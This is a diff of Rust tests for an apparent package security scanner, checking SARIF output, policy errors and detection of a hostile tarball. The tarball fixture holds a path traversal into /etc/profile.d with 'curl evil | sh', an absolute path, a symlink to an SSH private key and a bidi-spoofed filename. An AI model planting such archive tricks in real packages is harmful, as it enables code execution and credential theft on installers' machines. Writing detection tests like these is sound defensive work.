@@ -292,6 +292,38 @@ fn sarif_validates_against_the_official_schema() {
             .any(|r| r["suppressions"][0]["justification"] == "vendored on purpose"),
         "allowed findings are suppressed, not dropped"
     );
+    let embedded = results
+        .iter()
+        .find(|r| r["ruleId"] == "secret-github-pat")
+        .expect("the token inside the map's embedded source");
+    let loc = &embedded["locations"][0];
+    assert_eq!(
+        loc["physicalLocation"]["artifactLocation"]["uri"],
+        "dist/cli.js.map"
+    );
+    assert!(
+        loc["physicalLocation"]["region"].is_null(),
+        "line 42 is the embedded source's, not the map file's: {loc}"
+    );
+    assert_eq!(
+        loc["logicalLocations"][0]["fullyQualifiedName"],
+        "dist/cli.js.map \u{25b8} src/auth/token.ts:42"
+    );
+    assert!(
+        embedded["message"]["text"]
+            .as_str()
+            .is_some_and(|m| m.starts_with("dist/cli.js.map \u{25b8} src/auth/token.ts:42: ")),
+        "{}",
+        embedded["message"]
+    );
+    let top = results
+        .iter()
+        .find(|r| r["ruleId"] == "install-script")
+        .expect("install script");
+    assert_eq!(
+        top["locations"][0]["physicalLocation"]["region"]["startLine"], 1,
+        "a top-level finding keeps its region"
+    );
     let mut broken = sarif.clone();
     broken["runs"][0]["results"][0]["level"] = Value::from("fatal");
     assert!(
@@ -341,7 +373,9 @@ fn policy_allows_overrides_and_refuses_bad_files() {
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains("bad.toml:4:"), "names file and line: {err}");
     assert!(err.contains("unknown field"), "{err}");
-    assert!(err.contains("hint"), "{err}");
+    assert!(err.contains(" (hint: "), "{err}");
+    assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
+    assert!(!err.contains("^J"), "no escaped newline: {err}");
 }
 
 #[test]
@@ -1004,5 +1038,72 @@ fn the_review_path_and_the_streaming_path_find_the_same_things() {
     assert_eq!(
         reviewed, streamed.findings,
         "evaluate (review screen) and check (streaming) agree"
+    );
+}
+
+#[test]
+fn a_hostile_tarball_gives_critical_archive_findings_and_exit_1() {
+    use common::{Tar, flag, gzip};
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut inner = Tar::new();
+    inner
+        .file("package/package.json", CLEAN_PKG)
+        .file("package/../../../etc/profile.d/x.sh", b"curl evil | sh\n");
+    let mut t = Tar::new();
+    t.file("package/package.json", CLEAN_PKG)
+        .file("package/../../.bashrc", b"evil\n")
+        .file("/etc/evil", b"root\n")
+        .link("package/key", flag::SYMLINK, "/home/u/.ssh/id_rsa")
+        .file("package/index.js", b"module.exports = 1;\n")
+        .file("package/index.js", b"module.exports = evil();\n")
+        .file("package/gnp\u{202e}sj.js", b"x\n")
+        .file("package/vendor/inner.tgz", &gzip(&inner.finish()));
+    let f = write(dir.path(), "hostile-1.0.0.tgz", &gzip(&t.finish()));
+    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
+    assert_eq!(code, 1, "a hostile archive fails the check: {v}");
+    let archive: Vec<&Value> = v["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .filter(|f| {
+            f["rule"]
+                .as_str()
+                .is_some_and(|r| r.starts_with("archive-"))
+        })
+        .collect();
+    for rule in [
+        "archive-path-traversal",
+        "archive-absolute-path",
+        "archive-symlink",
+        "archive-duplicate-path",
+        "archive-bidi-characters",
+    ] {
+        assert!(
+            archive
+                .iter()
+                .any(|f| f["rule"] == rule && f["inner"].is_null()),
+            "{rule} at the top level: {archive:#?}"
+        );
+    }
+    assert!(
+        archive.iter().all(|f| f["severity"] == "critical"),
+        "every archive-* finding is critical: {archive:#?}"
+    );
+    let nested = archive
+        .iter()
+        .find(|f| f["path"] == "vendor/inner.tgz" && f["rule"] == "archive-path-traversal")
+        .unwrap_or_else(|| panic!("the nested archive's traversal: {archive:#?}"));
+    assert!(
+        nested["inner"]
+            .as_str()
+            .is_some_and(|i| i.contains("profile.d")),
+        "located inside the nested archive: {nested}"
+    );
+    assert!(
+        archive
+            .iter()
+            .filter_map(|f| f["message"].as_str())
+            .all(|m| !m.contains('\u{202e}')),
+        "the bidi character is escaped in messages"
     );
 }
